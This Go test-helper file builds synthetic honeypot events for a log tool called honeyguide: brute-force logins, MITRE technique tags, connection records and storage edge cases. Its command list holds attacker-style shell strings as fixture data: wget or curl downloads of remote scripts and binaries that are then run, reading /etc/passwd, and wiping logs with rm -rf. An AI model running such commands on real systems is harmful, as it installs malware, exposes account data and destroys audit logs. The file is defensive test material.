package eventlogtest

import (
	"fmt"
	"math"
	"math/rand/v2"
	"net/netip"
	"strings"
	"time"

	"honeyguide"
)

// Gen makes events shaped like a honeypot's: sessions of sources of unequal
// diligence, credentials, commands, techniques. The same seed gives the same
// events.
type Gen struct {
	r        *rand.Rand
	zipf     *rand.Zipf
	at       time.Time
	step     time.Duration
	sessions [64]session
}

type session struct {
	id, user, client, service string
	src, dst                  honeyguide.Endpoint
	left                      int
}

var (
	services   = []string{"ssh", "ssh", "ssh", "telnet", "http", "ftp", "mysql", "redis"}
	users      = []string{"root", "admin", "ubuntu", "oracle", "postgres", "test", "pi", "git"}
	countries  = []string{"CN", "RU", "NL", "US", "DE", "SG", "VN", "IN", "KR", "BR"}
	techniques = []string{"T1110.001", "T1110.003", "T1059.004", "T1105", "T1082", "T1033", "T1053.003", "T1098.004", "T1496"}
	commands   = []string{
		"uname -a; cat /proc/cpuinfo | grep name | wc -l", "cd /tmp; wget http://%s/bins.sh; sh bins.sh", "cat /etc/passwd",
		"curl -s http://%s/x86_64 -o /tmp/.x; chmod +x /tmp/.x", "ps aux | grep xmrig", "/bin/busybox ECCHI %s", "history -c; rm -rf /var/log/*",
	}
)

// NewGen returns a generator whose first event is at a time and whose events are
// a step apart on average.
func NewGen(seed uint64, at time.Time, step time.Duration) *Gen {
	r := rand.New(rand.NewPCG(seed, 11))
	g := &Gen{r: r, zipf: rand.NewZipf(r, 1.15, 8, 4999), at: at, step: step}
	for i := range g.sessions {
		g.restart(&g.sessions[i])
	}
	return g
}

func (g *Gen) restart(s *session) {
	k := g.zipf.Uint64()
	h := uint32(k*2654435761 + 12345)
	src := netip.AddrFrom4([4]byte{byte(1 + h%222), byte(h >> 8), byte(h >> 16), byte(1 + h>>24%254)})
	s.service = services[g.r.IntN(len(services))]
	s.src = honeyguide.Endpoint{
		Addr: netip.AddrPortFrom(src, uint16(1024+g.r.IntN(60000))), Country: countries[k%10], ASN: uint32(1000 + k%300),
		ASOrg: fmt.Sprintf("AS-ORG-%d Hosting Ltd", 1000+k%300),
	}
	s.dst = honeyguide.Endpoint{Addr: netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 20, 0, 5}), uint16(22+len(s.service))), Hostname: "web01"}
	s.id = honeyguide.DerivedID(g.at, s.service, fmt.Sprint(g.r.Uint64()))
	s.user = users[g.r.IntN(len(users))]
	s.client = "SSH-2.0-libssh2_1.10." + fmt.Sprint(g.r.IntN(8))
	s.left = 3 + g.r.IntN(30)
}

// Next returns the next event.
func (g *Gen) Next() honeyguide.Event {
	s := &g.sessions[g.r.IntN(len(g.sessions))]
	if s.left--; s.left < 0 {
		g.restart(s)
	}
	// Not sorted: sensors are not one clock.
	g.at = g.at.Add(time.Duration(g.r.Int64N(int64(2*g.step) + 1)))
	at := g.at.Add(-time.Duration(g.r.Int64N(int64(10*g.step) + 1))).Truncate(time.Microsecond).UTC()
	e := honeyguide.Event{
		Time: at, Observed: at.Add(time.Duration(g.r.IntN(900)) * time.Microsecond),
		Class: honeyguide.ClassSSH, Severity: honeyguide.Severity(1 + g.r.IntN(3)), Sensor: "sensor-" + s.service, Service: s.service,
		Session: s.id, Src: s.src, Dst: s.dst,
	}
	g.act(&e, s)
	if g.r.IntN(50) == 0 {
		e.Severity = honeyguide.Severity(4 + g.r.IntN(2))
	}
	return e
}

// act says what was done.
func (g *Gen) act(e *honeyguide.Event, s *session) {
	switch k := g.r.IntN(10); {
	case k < 5:
		e.Class, e.Activity = honeyguide.ClassAuthentication, honeyguide.ActivityLoginFailed
		e.Attacks = []honeyguide.Technique{{ID: techniques[g.r.IntN(2)], Tactic: "credential-access", Why: "a password was tried"}}
		e.Set(honeyguide.AttrUser, s.user)
		e.Set(honeyguide.AttrPassword, users[g.r.IntN(len(users))]+fmt.Sprint(g.r.IntN(5000)))
		e.Set(honeyguide.AttrAuthMethod, "password")
		e.Set(honeyguide.AttrClient, s.client)
		e.Set(honeyguide.AttrMessage, "login attempt "+s.user+" from "+s.src.Addr.Addr().String()+" port "+fmt.Sprint(s.src.Addr.Port()))
	case k < 8:
		c := commands[g.r.IntN(len(commands))]
		if strings.Contains(c, "%s") {
			c = fmt.Sprintf(c, s.src.Addr.Addr())
		}
		e.Class, e.Activity = honeyguide.ClassProcess, honeyguide.ActivityCommand
		e.Attacks = []honeyguide.Technique{{ID: techniques[2+g.r.IntN(7)], Tactic: "execution", Why: "the command says so"}}
		e.Observables = []honeyguide.Observable{{Name: "src", Type: "ip", Value: s.src.Addr.Addr().String()}}
		e.Set(honeyguide.AttrCommand, c)
		e.Set(honeyguide.AttrUser, s.user)
		e.Set(honeyguide.AttrStatus, g.r.IntN(2))
		e.Set(honeyguide.AttrMessage, "CMD: "+c)
	default:
		e.Class, e.Activity = honeyguide.ClassNetwork, honeyguide.ActivityClose
		e.Set(honeyguide.AttrDuration, g.r.IntN(100000))
		e.Set(honeyguide.AttrBytesIn, g.r.IntN(4000))
		e.Set(honeyguide.AttrBytesOut, g.r.IntN(20000))
	}
}

// Some returns the next n events.
func (g *Gen) Some(n int) []honeyguide.Event {
	out := make([]honeyguide.Event, n)
	for i := range out {
		out[i] = g.Next()
	}
	return out
}

// Odd returns events that are hard to keep exactly, in their stored form.
func Odd() []honeyguide.Event {
	day := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	big := strings.Repeat("x\x00\xff", 22000)
	many := map[string]any{}
	for i := range 300 {
		many[fmt.Sprintf("field.%d", i)] = int64(i)
	}
	addr := func(s string) honeyguide.Endpoint { return honeyguide.Endpoint{Addr: netip.MustParseAddrPort(s)} }
	return []honeyguide.Event{
		{},
		{Time: time.Unix(0, 0).UTC(), Observed: time.Date(2262, 4, 11, 23, 47, 16, 854775000, time.UTC)},
		{Time: day, Attrs: map[string]any{"a": "", "b": "\x00", "c": "\xff\xfe", "": "empty name", "n\x00l": "x"}},
		{Time: day.Add(-time.Microsecond), Attrs: map[string]any{"b": int64(math.MinInt64), "a": int64(math.MaxInt64), "c": ""}},
		{Time: day.Add(time.Microsecond), Attrs: map[string]any{"a": math.Inf(-1), "b": math.NaN(), "c": true, "d": false, "e": math.Copysign(0, -1)}},
		{Attrs: map[string]any{"a": []any{int64(1), 1.5, "x", nil, map[string]any{"k": []any{}}}, "b": map[string]any{}}},
		{Attrs: map[string]any{honeyguide.AttrCommand: big}, Raw: []byte(big)},
		{Raw: []byte{0}, Src: addr("[fe80::1%eth0]:22"), Dst: addr("[2001:db8::1]:65535")},
		{Src: honeyguide.Endpoint{Addr: netip.AddrPortFrom(netip.Addr{}, 7)}, Dst: honeyguide.Endpoint{ASN: math.MaxUint32, ASOrg: "\xc3\x28", Hostname: "h", Country: "DE"}},
		{Observables: []honeyguide.Observable{{}, {Name: "n", Type: "ip", Value: "1.2.3.4"}, {Value: "v\x00"}}},
		{Attacks: []honeyguide.Technique{{ID: "T1110.001", Why: "w"}, {ID: "T1059"}, {}, {ID: "two words %20", Tactic: "t"}, {ID: "T1059"}}},
		{ID: "custom-id", Class: math.MaxUint32, Activity: "\n", Severity: honeyguide.SeverityCritical, Sensor: "s", Service: "v", Session: "x"},
		{ID: honeyguide.NewID(day), Attrs: many},
		{ID: "vvvvvvvvvvvvvvvvvvvvvvvvvv"},
		{ID: "vvvvvvvvvvvvvvvvvvvvvvvvvs"},
	}
}
